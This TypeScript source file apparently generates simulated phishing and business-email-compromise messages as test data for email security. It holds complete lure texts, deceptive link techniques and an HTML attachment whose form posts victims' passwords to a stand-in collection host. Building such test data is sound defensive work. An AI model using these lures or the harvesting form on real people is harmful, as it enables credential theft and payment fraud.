/**
 * Attacks from strangers that stand out by what they ask for and how: credential phishing,
 * malicious attachments, fake replies, callback scams, gift cards, Reply-To drop boxes.
 */
import { domainToASCII } from 'node:url';
import { type AttackContext, attackerTransport, attackMail, attackMoment, byDepartment, first, nth, party, partyOf } from './attack-kit.js';
import { money, type SimMail } from './compose.js';
import { makeDocm, makeEncryptedZip, makeExecutableStub } from './files.js';
import type { AttachmentSpec } from './render.js';

const BRANDS = ['CloudDesk 365', 'DocuVault', 'MailGuard Admin', 'ShareBox', 'Payroll Online'];

export function credentialPhish(ctx: AttackContext): SimMail[] {
  const { org, rng } = ctx;
  const out: SimMail[] = [];
  for (let i = 0; i < ctx.count; i++) {
    const target = nth(org.people, i * 7 + 5);
    const brand = nth(BRANDS, i);
    const senderDomain = nth(['account-notice.test', 'secure-alerts.example', 'mail-service-center.test', 'it-helpdesk-notify.example', 'verify-team.test'], i);
    const variant = i % 4;
    const shownUrl = `https://portal.${org.domain}/mailbox`;
    const href = [
      `https://${org.domain.replace('.', '-')}.session-verify.test/login?u=${encodeURIComponent(target.address)}`, // text names another domain
      `https://${domainToASCII(`l\u043egin-${org.domain.split('.')[0]}.example`)}/auth`, // punycode host
      `http://203.0.113.${rng.int(2, 254)}/owa/auth/logon.aspx`, // IP literal
      `https://${rng.pick(['bit.ly', 'tinyurl.com'])}/${rng.hex(7)}`, // shortener
    ][variant] as string;
    const text = variant === 0 ? shownUrl : nth(['Verify your account', 'Keep my password', 'Review sign-in activity', 'Restore access'], i);
    out.push(
      attackMail(ctx, 'credential-phish', {
        at: attackMoment(ctx, i, target),
        from: party(`${brand} Security`, `no-reply@${senderDomain}`),
        to: [partyOf(target)],
        subject: nth(['Unusual sign-in activity on your account', 'Your mailbox is almost full', 'Action required: verify your account', 'Your password expires in 24 hours', '3 messages held for your review'], i),
        text: `Dear user,\n\nWe detected a problem with your ${brand} account (${target.address}). To avoid interruption, sign in and confirm your details within 24 hours.\n\n${text}: ${href}\n\n${brand} Security Team`,
        html: `<html><body><p>Dear user,</p><p>We detected a problem with your ${brand} account (${target.address}). To avoid interruption, sign in and confirm your details within 24 hours.</p><p><a href="${href}">${text}</a></p><p>${brand} Security Team</p></body></html>\n`,
        transport: attackerTransport(rng, senderDomain, { auth: i % 3 === 2 ? 'none' : 'pass' }),
      }),
    );
  }
  return out;
}

export function maliciousAttachment(ctx: AttackContext): SimMail[] {
  const { org, rng } = ctx;
  const out: SimMail[] = [];
  const finance = byDepartment(org, 'finance');
  for (let i = 0; i < ctx.count; i++) {
    const target = nth([...finance, ...byDepartment(org, 'operations')], i);
    const variant = i % 4;
    const num = rng.int(10000, 99999);
    const password = rng.hex(4);
    const attachment: AttachmentSpec = [
      { filename: `Invoice_${num}.pdf`, contentType: 'application/pdf', content: makeExecutableStub() },
      { filename: `Remittance_${num}.docm`, contentType: 'application/vnd.ms-word.document.macroEnabled.12', content: makeDocm() },
      {
        filename: `Payment_Advice_${num}.html`,
        contentType: 'text/html',
        content: Buffer.from(`<!DOCTYPE html><html><body><h3>Secure document</h3><form action="https://doc-viewer-${num}.test/collect" method="post"><input name="email" value="${target.address}"><input type="password" name="pw"><button>View</button></form></body></html>`),
      },
      { filename: `Statement_${num}.zip`, contentType: 'application/zip', content: makeEncryptedZip(`Statement_${num}.pdf.exe`, Buffer.from(rng.hex(256), 'hex')) },
    ][variant] as AttachmentSpec;
    const domain = nth(['supplier-docs.test', 'accounts-dept-mail.example', 'remittance-advice.test', 'freight-notices.example', 'docs-invoicing.test'], i);
    out.push(
      attackMail(ctx, 'malicious-attachment', {
        at: attackMoment(ctx, i, target),
        from: party(nth(['Accounts Department', 'Remittance Advice', 'Billing Team', 'Shipping Notice'], i), `accounts@${domain}`),
        to: [partyOf(target)],
        subject: nth([`Invoice ${num}`, `Remittance advice ${num}`, `Payment advice ${num}`, `Statement ${num} (password protected)`], variant),
        text: `Hello,\n\nPlease see the attached ${variant === 3 ? `statement. The password is ${password}.` : 'document and confirm receipt.'}\n\nRegards`,
        attachments: [attachment],
        transport: attackerTransport(rng, domain),
      }),
    );
  }
  return out;
}

export function fakeReply(ctx: AttackContext): SimMail[] {
  const { org, rng } = ctx;
  const out: SimMail[] = [];
  for (let i = 0; i < ctx.count; i++) {
    const vendor = nth(org.vendors, i + 2);
    const contact = nth(vendor.contacts, i);
    const target = nth(vendor.owners, i + 1);
    const domain = nth(['invoice-followup.test', 'ap-support-mail.example', 'billing-desk.test', 'payments-team.example'], i);
    const forward = i % 3 === 2;
    const inv = `INV-2025-${rng.int(1000, 9999)}`;
    const quoted = `\n\n-----Original Message-----\nFrom: ${contact.name} <${contact.address}>\nSent: ${nth(['Monday', 'Tuesday', 'Wednesday'], i)}, 3 June 2025 10:${10 + i}\nTo: ${target.name} <${target.address}>\nSubject: Invoice ${inv}\n\nHi ${first(target.name)}, as discussed, please process ${inv} this week.\n`;
    out.push(
      attackMail(ctx, 'fake-reply', {
        at: attackMoment(ctx, i, target),
        from: party(contact.name, `${contact.address.split('@')[0]}@${domain}`),
        to: [partyOf(target)],
        subject: `${forward ? 'Fwd' : 'Re'}: Invoice ${inv}`,
        text: `Hi ${first(target.name)},\n\nFollowing up on the below: payment is now overdue. Please confirm today when it will be sent. Our account details have been updated, see attached letter.\n\nRegards,\n${contact.name}${quoted}`,
        // Some claim a parent the organisation never saw; others carry no thread headers at all.
        ...(i % 2 === 0 ? { inReplyTo: `${rng.hex(16)}@${vendor.domain}`, references: [`${rng.hex(16)}@${vendor.domain}`] } : {}),
        transport: attackerTransport(rng, domain),
      }),
    );
  }
  return out;
}

export function callbackScam(ctx: AttackContext): SimMail[] {
  const { org, rng } = ctx;
  const out: SimMail[] = [];
  for (let i = 0; i < ctx.count; i++) {
    const target = nth(org.people, i * 9 + 2);
    const product = nth(['Antivirus Total Protection', 'CloudBackup Premium', 'PC Care Plus', 'Geek Support Annual Plan'], i);
    const phone = nth([`+44 20 7946 0${rng.int(100, 999)}`, `+1 (555) 01${rng.int(10, 99)}`, `+44 161 496 0${rng.int(100, 999)}`], i);
    const domain = i % 2 === 0 ? nth(org.freemail, i) : nth(['billing-renewals.test', 'order-dept.example'], i);
    out.push(
      attackMail(ctx, 'callback-scam', {
        at: attackMoment(ctx, i, target),
        from: party(nth(['Billing Department', 'Order Desk', 'Subscription Team'], i), `${nth(['billing', 'orders', 'support'], i)}${rng.int(10, 99)}@${domain}`),
        to: [partyOf(target)],
        subject: `Your ${product} subscription has been renewed`,
        text: `Dear Customer,\n\nThank you for renewing ${product}. Your account has been charged EUR ${money(rng, 299, 499)}.\n\nOrder number: ${rng.int(10000000, 99999999)}\n\nIf you did not authorise this payment, call our billing team within 24 hours on ${phone} to cancel and receive a refund.\n\nBilling Department`,
        transport: attackerTransport(rng, domain, { helo: i % 2 === 0 ? `out.${domain}` : undefined }),
      }),
    );
  }
  return out;
}

export function giftCard(ctx: AttackContext): SimMail[] {
  const { org, rng } = ctx;
  const out: SimMail[] = [];
  for (let i = 0; i < ctx.count; i++) {
    const boss = nth([...org.executives, ...org.people.filter((p) => p.title.startsWith('Head'))], i);
    const target = nth(org.people.filter((p) => p.department === boss.department || p.department === 'operations').filter((p) => p !== boss), i);
    const domain = nth([...org.freemail, 'quickmail-box.test'], i);
    const local = `${first(boss.name).toLowerCase()}.${rng.hex(3)}`;
    out.push(
      attackMail(ctx, 'gift-card', {
        at: attackMoment(ctx, i, target),
        from: party(boss.name, `${local}@${domain}`),
        to: [partyOf(target)],
        subject: nth(['Quick task', 'Request', 'Need a favour', 'Client gifts'], i),
        text: `Hi ${first(target.name)},\n\nI need you to buy ${rng.int(4, 10)} gift cards of EUR ${nth(['100', '200', '250'], i)} each for some clients today. Scratch the backs and send me photos of the codes. I will sort out reimbursement later. I am in a meeting, so email only.\n\n${first(boss.name)}`,
        transport: attackerTransport(rng, domain, { helo: `out.${domain}` }),
      }),
    );
  }
  return out;
}

export function replyToDivergence(ctx: AttackContext): SimMail[] {
  const { org, rng } = ctx;
  const out: SimMail[] = [];
  for (let i = 0; i < ctx.count; i++) {
    const target = nth([...byDepartment(org, 'finance'), ...byDepartment(org, 'operations')], i + 2);
    const domain = nth(['harbourline-consulting.test', 'meridian-advisory.example', 'stonebridge-legal.test', 'northgate-capital.example', 'fairway-partners.test'], i);
    const name = nth(['Martin Hale', 'Sophie Renner', 'David Oduya', 'Claire Bexley', 'Ahmed Fenwick'], i);
    const drop = `${name.toLowerCase().replace(' ', '.')}.${rng.int(10, 99)}@${nth(org.freemail, i + 1)}`;
    const ask = nth([
      `We are handling the confidential acquisition your CEO mentioned. Please confirm who can authorise a transfer of EUR ${money(rng, 50000, 250000)} this week.`,
      'As part of the year-end audit, please send the current employee payroll summary (names, salaries, bank details) to me directly.',
      `Our client has an outstanding balance with you. Please send us your latest remittance details and confirm the contact for a refund of EUR ${money(rng, 5000, 20000)}.`,
    ], i);
    out.push(
      attackMail(ctx, 'reply-to-divergence', {
        at: attackMoment(ctx, i, target),
        from: party(name, `${name.split(' ')[0]?.toLowerCase()}@${domain}`),
        replyTo: [party(name, drop)],
        to: [partyOf(target)],
        subject: nth(['Confidential: transaction', 'Audit request', 'Outstanding balance'], i),
        text: `Dear ${first(target.name)},\n\n${ask}\n\nPlease reply to this email only.\n\nBest regards,\n${name}`,
        transport: attackerTransport(rng, domain),
      }),
    );
  }
  return out;
}
